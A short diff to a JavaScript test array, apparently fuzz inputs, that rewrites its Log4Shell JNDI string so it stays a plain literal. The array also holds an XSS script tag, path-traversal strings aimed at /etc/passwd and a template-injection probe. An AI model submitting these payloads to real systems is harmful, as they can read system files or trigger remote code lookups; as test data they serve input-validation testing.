@@ -255,7 +255,7 @@ const VALUES = [
   '<script>alert(1)</script>',
   '../../etc/passwd',
   '..%2F..%2Fetc%2Fpasswd',
-  '${jndi:ldap://x/a}',
+  '$' + '{jndi:ldap://x/a}', // log4shell, split so it stays a plain string
   '{{7*7}}',
   '%00',
   '%zz',
